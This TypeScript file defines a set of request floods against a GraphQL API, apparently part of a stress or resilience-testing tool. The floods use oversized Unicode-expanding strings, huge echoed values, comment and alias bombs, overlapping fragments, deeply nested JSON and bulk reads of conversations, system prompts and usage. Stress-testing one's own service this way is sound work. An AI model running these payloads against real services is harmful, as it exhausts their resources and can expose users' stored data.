import type { Attack, Flood } from '../attack.ts';
import { aliases, graphql, repeat, request } from '../http.ts';

const tokenOf = ({ tokens }: Attack, index: number) => tokens[index % tokens.length];

/** Sends the same operation of the members on several connections. */
const query = (document: string, variables: object = {}, connections = 12): Flood => {
  return (attack) =>
    repeat(attack, connections, (index) => graphql(document, { ...variables }, tokenOf(attack, index)));
};

/** The longest texts that bounds allow; U+FDFA expands to 18 characters when it is normalized. */
const longSearch = '\u{fdfa}'.repeat(256);

/** Fragments whose fields must all be compared with each other by the validation. */
const fragments = (count: number): string =>
  `{ ${aliases(count, (n) => `...f${n}`)} } ${aliases(
    count,
    (n) => `fragment f${n} on Query { viewer { id username ...g${n} } } fragment g${n} on User { id role }`,
  )}`;

/** Floods of GraphQL documents and variables. */
export const documentFloods: Readonly<Record<string, Flood>> = {
  'long searches in aliases': query(
    `query ($s: String) { ${aliases(49, (n) => `a${n}: conversations(search: $s, first: 1) { edges { node { id } } }`)} }`,
    { s: longSearch },
  ),

  'searches of many words': query(
    `query ($s: String) { ${aliases(20, (n) => `a${n}: conversations(search: $s, first: 100) { edges { node { id } } }`)} }`,
    { s: aliases(120, (n) => String.fromCharCode(97 + (n % 26))) },
  ),

  'values beyond their bounds': query(
    'query ($s: String) { conversations(search: $s) { edges { cursor } } }',
    {
      s: '\u{fdfa}'.repeat(1_300_000),
    },
  ),

  'echoed values': query(
    `mutation ($id: ID) { ${aliases(45, (n) => `a${n}: createConversation(input: { clientMutationId: $id }) { clientMutationId }`)} }`,
    { id: 'x'.repeat(3_800_000) },
  ),

  'documents of comments': (attack) =>
    repeat(attack, 12, (index) =>
      graphql(`{ viewer { id } } ${'# comment\n'.repeat(100_000)}`, {}, tokenOf(attack, index)),
    ),

  'documents of the greatest length': (attack) =>
    repeat(attack, 12, (index) =>
      graphql(`{ viewer { id } } #${'x'.repeat(99_900)}`, {}, tokenOf(attack, index)),
    ),

  'documents of many tokens': (attack) => {
    let count = 0;
    return repeat(attack, 12, (index) => {
      count += 1;
      return graphql(
        `query q${count} { viewer { ${aliases(1900, () => 'id username')} } }`,
        {},
        tokenOf(attack, index),
      );
    });
  },

  'fragments that overlap': (attack) => {
    let count = 0;
    return repeat(attack, 12, (index) => {
      count += 1;
      return graphql(`query q${count} ${fragments(120)}`, {}, tokenOf(attack, index));
    });
  },

  'deeply nested JSON': (attack) =>
    repeat(attack, 12, (index) =>
      request(
        'POST',
        '/graphql',
        { 'Content-Type': 'application/json', Authorization: `Bearer ${tokenOf(attack, index)}` },
        `{"query":"{ viewer { id } }","variables":{"a":${'['.repeat(500_000)}${']'.repeat(500_000)}}}`,
      ),
    ),

  introspection: query(
    '{ __schema { types { name description fields { name description args { name description type { name ofType { name } } } } inputFields { name description } } } }',
  ),

  'lists of ids': query(
    'query ($ids: [ID!]!) { a: nodes(ids: $ids) { id } b: nodes(ids: $ids) { id } c: nodes(ids: $ids) { id } }',
    { ids: Array.from({ length: 100 }, (_, n) => Buffer.from(`Conversation:${n}`).toString('base64')) },
  ),

  'large pages in aliases': query(
    `{ ${aliases(20, (n) => `a${n}: conversations(first: 100) { edges { node { id title systemPrompt messages(first: 2) { edges { node { content } } } } } }`)} }`,
  ),

  'usage over all time': query(
    `{ ${aliases(40, (n) => `a${n}: usage(from: "1970-01-01T00:00:00.000Z", by: DAY) { total { totalTokens } }`)} }`,
  ),
};
